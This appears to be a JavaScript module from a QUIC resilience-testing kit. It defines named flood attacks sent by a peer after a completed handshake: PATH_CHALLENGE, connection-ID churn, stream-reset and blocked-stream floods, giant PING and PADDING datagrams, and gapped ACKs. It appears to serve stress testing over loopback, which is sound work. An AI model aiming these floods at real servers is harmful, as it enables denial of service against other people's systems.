/** Floods of one kind of frame from a peer whose handshake is complete. */
import { randomBytes } from "node:crypto"
import * as frames from "../kit/frames.mjs"
import { room } from "../kit/peer.mjs"
import { forge } from "./flood.mjs"

/** Packets a second: about what one core makes. */
const rate = 8_000

/** Packets that are made in advance, for every connection of a flood: they take longer to make than to send. */
const prepared = 1_000

/** Packets full of frames; `frame` makes each from its number. */
const flood = (frame, speed = rate, size = room) => ({
  run: (context) => {
    let number = 0
    const payloads = Array.from({ length: size > room ? 1 : prepared }, () => frames.fill(size, () => frame(number++)))
    return forge(context, speed, (i) => payloads[i % payloads.length])
  }
})

const token = Buffer.alloc(16, 1)

/** Bytes of frames in the largest datagram that UDP carries over loopback. */
const largest = 60_000

export const attacks = {
  "PATH_CHALLENGE flood": flood(() => frames.pathChallenge(randomBytes(8))),
  "NEW_CONNECTION_ID that retires the one before": flood((i) =>
    frames.newConnectionId(i + 1, i + 1, randomBytes(20), token)
  ),
  "RESET_STREAM flood": flood((i) => frames.resetStream(2 + 4 * (i % 1_000), 0, 0)),
  "STOP_SENDING flood": flood((i) => frames.stopSending(4 * (i % 1_000), 0)),
  "STREAM_DATA_BLOCKED flood": flood((i) => frames.streamDataBlocked(2 + 4 * (i % 1_000), i)),
  "PING, 60,000 in each datagram": flood(() => frames.ping, 1_000, largest),
  "PADDING, 60,000 bytes in each datagram": {
    run: (context) => forge(context, 2_000, () => frames.padding(largest))
  },
  "ACK of every second number": {
    run: (context) => forge(context, rate, (i) => frames.ackHoles(2_000 + i, 600))
  }
}
